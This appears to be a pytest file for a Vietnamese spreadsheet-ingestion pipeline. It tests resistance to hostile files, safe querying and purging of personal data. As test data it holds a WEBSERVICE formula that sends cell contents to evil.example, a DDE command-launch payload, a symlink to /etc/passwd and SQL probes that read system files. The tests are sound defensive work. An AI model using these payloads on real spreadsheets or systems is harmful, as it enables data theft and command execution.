"""Issue 16: no single file can stop the city, and personal data stays personal.

Every file here is made by tests/hostile.py, outside the project's own writers. Each case
checks what holds: one Vietnamese issue for the file, bounded cost, the other files
loaded, the run going on.
"""

from __future__ import annotations

import hashlib
import io
import os
import resource
import shutil
import signal
import subprocess
import sys
import time
import zipfile
from pathlib import Path

import duckdb
import hostile
import pytest
from openpyxl import load_workbook

from pipelines.reading import discover
from pipelines.reading.workbook import parse_workbook
from pipelines.store.ingest import ingest_folder

THIDUA = str(Path(sys.executable).with_name("thidua"))


def _outcomes(con) -> dict[str, str | None]:
    """Each file's path → its parse issues' rule codes (None: read without one)."""
    return dict(
        con.execute(
            """select files.path, string_agg(issues.rule_code, ',')
               from raw.files as files
               left join quality.parse_issues as issues using (file_hash)
               group by files.path"""
        ).fetchall()
    )


def _issues(parsed) -> dict[str, str]:
    return {issue.rule_code: issue.message for issue in parsed.issues}


@pytest.mark.parametrize(
    "make, words",
    [
        (hostile.far_cell, "dòng 1.048.576"),  # 512 GiB asked of calamine before
        (lambda path: hostile.far_cell(path, "ALL199999"), "199.999 dòng × 1.000 cột"),  # 9.6 GB
        (hostile.declared_huge, "khai báo vùng dữ liệu"),
        (hostile.implicit_wide_row, "cột thứ 1.001"),  # cells placed by order, no reference
        (hostile.entity_bomb, "DOCTYPE"),
    ],
)
def test_a_sheet_past_the_bounds_is_refused_before_any_reader_builds_it(tmp_path, make, words):
    path = make(tmp_path / "report.xlsx")
    assert path.stat().st_size < 100_000, "a small file"
    before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    started = time.perf_counter()
    parsed = parse_workbook(path, tmp_path)
    assert time.perf_counter() - started < 30, "bounded, not a hang (benchmarks measure speed)"
    grown = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before
    assert grown < 200 * 1024, f"no sheet was built in memory ({grown // 1024} MB more)"
    message = _issues(parsed)["DUNG_SHEET_TOO_LARGE"]
    assert words in message and "Vui lòng" in message
    assert parsed.is_rejected, "KetQuaChiTieu is required: the report cannot be used"


def test_a_file_whose_directory_lies_about_its_sizes_is_refused(tmp_path):
    parsed = parse_workbook(hostile.lying_sizes(tmp_path / "lying.xlsx"), tmp_path)
    assert parsed.is_rejected and "hỏng" in _issues(parsed)["DUNG_FILE_UNREADABLE"]


def test_a_file_without_its_sheet_list_is_one_issue(tmp_path):
    parsed = parse_workbook(hostile.missing_relationships(tmp_path / "norels.xlsx"), tmp_path)
    assert "mô tả các trang" in _issues(parsed)["DUNG_FILE_UNREADABLE"]


def _bad_styles(path: Path) -> Path:
    """A style table whose number format id is not a number: the reader raises ValueError."""
    hostile.unit_report(path.with_suffix(".src.xlsx"))
    styles = (
        '<styleSheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
        '<numFmts count="1"><numFmt numFmtId="x" formatCode="0%"/></numFmts>'
        '<cellXfs count="1"><xf numFmtId="x"/></cellXfs></styleSheet>'
    )
    with (
        zipfile.ZipFile(path.with_suffix(".src.xlsx")) as src,
        zipfile.ZipFile(path, "w") as out,
    ):
        for info in src.infolist():
            data = styles.encode() if info.filename == "xl/styles.xml" else src.read(info)
            out.writestr(info.filename, data)
    path.with_suffix(".src.xlsx").unlink()
    return path


def test_a_reader_crash_or_memory_blow_up_costs_only_that_file(tmp_path, monkeypatch):
    raw = tmp_path / "raw"
    raw.mkdir()
    hostile.unit_report(raw / "good.xlsx", "00128")
    # 26 x 150,000 cells of range: within the bounds, but past a reader given 150 MB
    hostile.far_cell(raw / "huge range.xlsx", "Z150000")
    _bad_styles(raw / "bad styles.xlsx")
    monkeypatch.setenv("THIDUA_PARSE_MEMORY_MB", "150")
    with duckdb.connect() as con:
        stats = ingest_folder(raw, con, "run")
        outcomes = _outcomes(con)
        loaded = con.execute("select count(*) from raw.unit_indicator_results").fetchone()[0]
    assert stats.files_found == 3 and stats.files_rejected == 2
    assert outcomes["huge range.xlsx"] == "DUNG_FILE_TOO_COSTLY", "the reader died on it: twice"
    assert outcomes["bad styles.xlsx"] == "DUNG_FILE_UNREADABLE", "an exception is one issue"
    assert outcomes["good.xlsx"] is None and loaded == 1, "the good file loads all the same"


def test_every_entry_of_a_hostile_folder_has_its_outcome_and_none_is_followed_out(
    tmp_path, monkeypatch
):
    raw = tmp_path / "raw"
    (raw / "sub").mkdir(parents=True)
    hostile.unit_report(raw / "good.xlsx", "00128")
    secret = tmp_path / "outside.xlsx"
    hostile.unit_report(secret, "00999")
    (raw / "link out.xlsx").symlink_to(secret)
    (raw / "dir out").symlink_to(tmp_path)
    (raw / "link in.xlsx").symlink_to(raw / "good.xlsx")
    (raw / "dangling.xlsx").symlink_to(raw / "gone.xlsx")
    os.mkfifo(raw / "pipe.xlsx")
    hostile.unit_report(Path(os.fsdecode(bytes(raw / "sub") + b"/b\xe1o c\xe1o.xlsx")), "00130")
    (raw / "sheet.ods").write_bytes(b"PK\x03\x04 an OpenDocument file")
    (raw / "numbers.csv").write_text("Mã,Kết quả\nCT01,7\n", encoding="utf-8")
    (raw / "bundle.zip").write_bytes(b"PK\x05\x06" + b"\0" * 18)
    big = raw / "big.xlsx"
    big.write_bytes(b"PK" + b"\0" * 100_000)
    monkeypatch.setattr(discover, "MAX_FILE_BYTES", 60_000)
    (raw / "notes.md").write_text("not a spreadsheet: ignored", encoding="utf-8")
    with duckdb.connect() as con:
        stats = ingest_folder(raw, con, "run")
        seen = _outcomes(con)
        senders = {row[0] for row in con.execute("select sender_code from raw.files").fetchall()}
        sightings = {
            row[0] for row in con.execute("select path from raw.file_sightings").fetchall()
        }
    assert "00999" not in senders, "a file outside the raw folder is never read"
    assert seen["link out.xlsx"] == "DUNG_FILE_NOT_READ"
    assert seen["dir out"] == "DUNG_FILE_NOT_READ"
    assert seen["dangling.xlsx"] == "DUNG_FILE_NOT_READ"
    assert seen["pipe.xlsx"] == "DUNG_FILE_NOT_READ"
    assert seen["sheet.ods"] == "DUNG_FILE_FORMAT"
    assert seen["numbers.csv"] == "DUNG_FILE_FORMAT"
    assert seen["bundle.zip"] == "DUNG_FILE_FORMAT"
    assert seen["big.xlsx"] == "DUNG_FILE_TOO_COSTLY"
    assert seen["sub/b\ufffdo c\ufffdo.xlsx"] is None, (
        "a name in Windows bytes is read, shown with �"
    )
    assert "00130" in senders
    assert {"good.xlsx", "link in.xlsx"} <= sightings, "a link inside is read through its target"
    assert stats.files_found == 11, "every spreadsheet-like entry, the notes file left alone"


def test_a_feedback_copy_carries_no_formula_link_or_outside_name(tmp_path):
    from pipelines.reports.feedback import Receipt, SheetColumns, feedback_workbook

    source = hostile.unit_report(tmp_path / "source.xlsx")
    wb = load_workbook(source)
    sheet = wb["KetQuaChiTieu"]
    sheet["C2"] = '=WEBSERVICE("http://evil.example/?"&A1)'
    sheet["D2"] = "trang"
    sheet["D2"].hyperlink = "http://evil.example/"
    from openpyxl.workbook.defined_name import DefinedName

    wb.defined_names["outside"] = DefinedName("outside", attr_text="[1]Sheet1!$A$1")
    buffer = io.BytesIO()
    wb.save(buffer)
    receipt = Receipt(
        "00127", "P", "2026-H1", "unit_report", "source.xlsx", None, None, 0, 1, "accepted"
    )
    copy = feedback_workbook(buffer.getvalue(), receipt, [], SheetColumns())
    with zipfile.ZipFile(io.BytesIO(copy)) as archive:
        xml = b"".join(archive.read(name) for name in archive.namelist())
        assert not any(name.startswith("xl/externalLinks") for name in archive.namelist())
    assert b"WEBSERVICE" not in xml and b"<f>" not in xml, "formulas are replaced by values"
    assert b"evil.example" not in xml and b"[1]Sheet1" not in xml


def test_a_feedback_copy_of_a_file_past_the_bounds_stands_alone(tmp_path):
    from pipelines.reports.feedback import Receipt, SheetColumns, feedback_workbook

    bytes_ = hostile.far_cell(tmp_path / "far.xlsx").read_bytes()
    receipt = Receipt(
        "00127", "P", "2026-H1", "unit_report", "far.xlsx", None, None, 0, 1, "rejected"
    )
    copy = load_workbook(io.BytesIO(feedback_workbook(bytes_, receipt, [], SheetColumns())))
    assert copy.sheetnames == ["PhanHoi"], "openpyxl never opened the sender's huge range"


def _published(warehouse: Path) -> tuple[str, set[str]]:
    reports = warehouse.parent / "reports"
    files = {
        f"{path.relative_to(reports)}:{hashlib.sha256(path.read_bytes()).hexdigest()}"
        for path in reports.rglob("*")
        if path.is_file()
    }
    return hashlib.sha256(warehouse.read_bytes()).hexdigest(), files


def test_reports_and_warehouse_are_published_together_or_not_at_all(refreshed, tmp_path):
    """Killed after the reports are written but before the build is published: the
    warehouse and the reports both stay the previous build's; the next build cleans up."""
    from pipelines.store.publish import building_path, reports_building_path

    warehouse = tmp_path / "w" / "thidua.duckdb"
    warehouse.parent.mkdir()
    shutil.copy(refreshed, warehouse)
    shutil.copytree(refreshed.parent / "reports", warehouse.parent / "reports")
    before = _published(warehouse)
    script = (
        "import sys, time\n"
        "from pathlib import Path\n"
        "from pipelines.store.publish import building_copy, reports_building_path\n"
        "w = Path(sys.argv[1])\n"
        "with building_copy(w) as b:\n"
        "    for report in reports_building_path(w).rglob('*.xlsx'):\n"
        "        report.unlink(); report.write_bytes(b'a newer build')\n"
        "    b.write_bytes(b'a newer warehouse')\n"
        "    print('written', flush=True)\n"
        "    time.sleep(60)\n"
    )
    process = subprocess.Popen(
        [sys.executable, "-c", script, str(warehouse)], stdout=subprocess.PIPE, text=True
    )
    assert process.stdout.readline().strip() == "written"
    process.kill()
    process.wait()
    assert _published(warehouse) == before, "neither the warehouse nor a report changed"
    assert building_path(warehouse).exists() and reports_building_path(warehouse).exists()
    subprocess.run(  # the next build publishes both at once, and leaves nothing behind
        [sys.executable, "-c", script.replace("time.sleep(60)", "pass"), str(warehouse)],
        check=True,
        capture_output=True,
    )
    database, reports = _published(warehouse)
    assert warehouse.read_bytes() == b"a newer warehouse"
    assert reports and all(
        entry.endswith(hashlib.sha256(b"a newer build").hexdigest())
        for entry in reports
        if ".xlsx" in entry
    )
    assert not building_path(warehouse).exists() and not reports_building_path(warehouse).exists()
    builds = [
        p for p in (warehouse.parent / ".builds" / warehouse.name).iterdir() if not p.is_symlink()
    ]
    assert len(builds) == 1, "the previous build is removed once the new one is published"


def test_a_full_disk_gets_a_vietnamese_message_and_leaves_no_partial_file(
    refreshed, city, tmp_path
):
    """The file size limit of the process stands for a full disk: writes fail with EFBIG."""
    warehouse = tmp_path / "thidua.duckdb"
    shutil.copy(refreshed, warehouse)
    raw = tmp_path / "raw"
    shutil.copytree(city, raw)
    hostile.unit_report(raw / "moi.xlsx", "00128")  # something new: a build is needed
    before = hashlib.sha256(warehouse.read_bytes()).hexdigest()
    limit = warehouse.stat().st_size // 2

    def small_disk():
        resource.setrlimit(resource.RLIMIT_FSIZE, (limit, limit))

    result = subprocess.run(
        [THIDUA, "refresh", "--raw", str(raw), "--warehouse", str(warehouse)],
        capture_output=True,
        text=True,
        timeout=300,
        preexec_fn=small_disk,
    )
    assert result.returncode == 1
    assert "ổ đĩa" in result.stderr and "Traceback" not in result.stderr, result.stderr[-2000:]
    assert hashlib.sha256(warehouse.read_bytes()).hexdigest() == before
    leftovers = [p.name for p in tmp_path.iterdir() if "building" in p.name]
    assert leftovers == [], "no partial copy left on a full disk"


def test_personal_keys_cannot_be_recovered_by_hashing_every_number(con):
    """The attack of issue 16: hash each candidate number the way keys were made."""
    numbers = [
        row[0]
        for row in con.execute(
            "select distinct personal_id from raw.unit_award_proposals where personal_id is not null"
        ).fetchall()
    ]
    keys = {
        row[0]
        for row in con.execute(
            "select person_key from marts.mart_award_proposals where person_key is not null"
        ).fetchall()
    }
    assert numbers and keys
    for number in numbers:
        for recipe in (f"thidua:{number}", number):
            assert hashlib.sha256(recipe.encode()).hexdigest()[:16] not in keys
    tables = {row[0] for row in con.execute("select table_name from duckdb_tables()").fetchall()}
    assert not any("key" in name and "secret" in name for name in tables)


@pytest.mark.parametrize(
    "sql, words",
    [
        ("select * from pragma_storage_info('raw.unit_award_proposals')", "pragma_storage_info"),
        ("select getenv('HOME')", "getenv"),
        ("select * from read_blob('/etc/hostname')", "read_blob"),
        ("select * from query_table('raw.files')", "query_table"),
        ("summarize raw.unit_award_proposals", "raw.unit_award_proposals"),
        ("show tables", "danh mục"),
        ("select * from duckdb_tables()", "duckdb_tables"),
        ("select current_setting('threads')", "current_setting"),
    ],
)
def test_a_query_runs_only_what_is_proved_safe(refreshed, sql, words):
    from pipelines.store.query import QueryRefused, run_query

    with pytest.raises(QueryRefused, match=words):
        run_query(refreshed, sql)


def test_a_query_has_a_time_limit_and_a_row_limit(refreshed, capsys):
    from pipelines.cli import main
    from pipelines.store.query import QueryRefused, run_query

    started = time.perf_counter()
    with pytest.raises(QueryRefused, match="quá 1 giây"):
        run_query(refreshed, "select count(*) from range(1000000000) a, range(1000000000) b", 1)
    assert time.perf_counter() - started < 20
    assert main(["query", "select * from range(5000)", "--warehouse", str(refreshed)]) == 0
    out, err = capsys.readouterr()
    assert len(out.splitlines()) == 201 and "200 dòng đầu" in err


def test_csv_exports_neutralise_formula_text(refreshed, tmp_path):
    from pipelines.cli import main

    out = tmp_path / "q.csv"
    sql = "select '=cmd|'' /C Calc''!A0' as a, '+1' as b, ' @SUM(1)' as c, -5 as d"
    assert (
        main(["query", sql, "--warehouse", str(refreshed), "--format", "csv", "--out", str(out)])
        == 0
    )
    row = out.read_text(encoding="utf-8").splitlines()[1]
    assert (
        row.startswith("'=cmd") and ",'+1," in row and ",' @SUM(1)," in row and row.endswith(",-5")
    )


def test_purge_removes_rejected_bytes_and_old_personal_data_for_good(refreshed, tmp_path):
    from pipelines.cli import main

    warehouse = tmp_path / "thidua.duckdb"
    shutil.copy(refreshed, warehouse)
    with duckdb.connect(str(warehouse), read_only=True) as con:
        number = con.execute(
            "select personal_id from raw.unit_award_proposals where personal_id is not null limit 1"
        ).fetchone()[0]
    assert (
        main(
            ["purge", "--before", "01/01/2000", "--du-lieu-ca-nhan", "--warehouse", str(warehouse)]
        )
        == 0
    )
    with duckdb.connect(str(warehouse), read_only=True) as con:
        assert (
            con.execute("select count(personal_id) from raw.unit_award_proposals").fetchone()[0] > 0
        ), "files seen after the date keep theirs"
    assert (
        main(
            [
                "purge",
                "--before",
                "31/12/2099",
                "--tep-bi-tu-choi",
                "--du-lieu-ca-nhan",
                "--warehouse",
                str(warehouse),
            ]
        )
        == 0
    )
    with duckdb.connect(str(warehouse), read_only=True) as con:
        left = con.execute(
            """select count(personal_id) + count(birth_date) + count(gender)
               from raw.unit_award_proposals"""
        ).fetchone()[0]
        contents = con.execute("select count(*) from raw.file_contents").fetchone()[0]
        log = con.execute(
            "select what, files, rows_changed from quality.purge_log order by all"
        ).fetchall()
    assert left == 0 and contents == 0
    assert [what for what, *_ in log].count("Nội dung tệp bị từ chối") == 1 and len(log) == 3
    assert number.encode() not in warehouse.read_bytes(), "no freed block still holds it"


def test_thidua_watch_survives_every_hostile_file_and_builds_the_next_good_one(resend):
    """Before: a name in bad bytes killed the watcher, a far cell aborted it (SIGABRT)."""
    from test_watch import Watcher

    raw, warehouse = resend
    Path(os.fsdecode(bytes(raw) + b"/t\xean l\xf5i.xlsx")).write_bytes(
        hostile.far_cell(raw / "far.src.xlsx").read_bytes()
    )
    (raw / "far.src.xlsx").rename(raw / "ALL.xlsx")
    hostile.far_cell(raw / "ALL.xlsx", "ALL199999")
    (raw / "out.xlsx").symlink_to("/etc/passwd")
    os.mkfifo(raw / "pipe.xlsx")
    (raw / "sheet.ods").write_bytes(b"PK\x03\x04 an OpenDocument file")
    watcher = Watcher(raw, warehouse)
    try:
        watcher.wait_for("Có tệp mới hay thay đổi")
        watcher.wait_for("Chờ tệp mới")
        with duckdb.connect(str(warehouse), read_only=True) as con:
            refused = dict(
                con.execute(
                    """select source_file, rule_code from quality.dq_issues
                       where rule_code in ('DUNG_FILE_NOT_READ', 'DUNG_FILE_FORMAT',
                                           'DUNG_SHEET_TOO_LARGE')"""
                ).fetchall()
            )
        assert refused == {
            "t\ufffdn l\ufffdi.xlsx": "DUNG_SHEET_TOO_LARGE",
            "ALL.xlsx": "DUNG_SHEET_TOO_LARGE",
            "out.xlsx": "DUNG_FILE_NOT_READ",
            "pipe.xlsx": "DUNG_FILE_NOT_READ",
            "sheet.ods": "DUNG_FILE_FORMAT",
        }
        hostile.unit_report(raw / "moi.xlsx", "00128")
        watcher.wait_for("Có tệp mới hay thay đổi")
        watcher.wait_for("Chờ tệp mới")
        with duckdb.connect(str(warehouse), read_only=True) as con:
            assert (
                con.execute("select count(*) from raw.files where path = 'moi.xlsx'").fetchone()[0]
                == 1
            )
    finally:
        assert watcher.stop(signal.SIGINT) == 0


def test_notes_are_capped_per_rule_and_file_but_errors_never():
    """A file of 110.000 identical rows gave 110.000 warnings; each error stays: it is the
    reason its row is quarantined."""
    from pipelines.quality.rules import Issue
    from pipelines.reading.workbook import NOTES_PER_RULE, cap_notes

    notes = [Issue("SACH_ROW_DUPLICATE", f"dòng {n}", "KetQuaChiTieu", n) for n in range(5000)]
    errors = [Issue("DU_CELL_REQUIRED", f"dòng {n}", "KetQuaChiTieu", n) for n in range(5000)]
    capped = cap_notes(notes + errors)
    assert sum(i.rule_code == "DU_CELL_REQUIRED" for i in capped) == 5000
    duplicates = [i for i in capped if i.rule_code == "SACH_ROW_DUPLICATE"]
    assert len(duplicates) == NOTES_PER_RULE + 1
    assert "Còn 4.800 dòng khác" in duplicates[-1].message and duplicates[-1].row_number is None
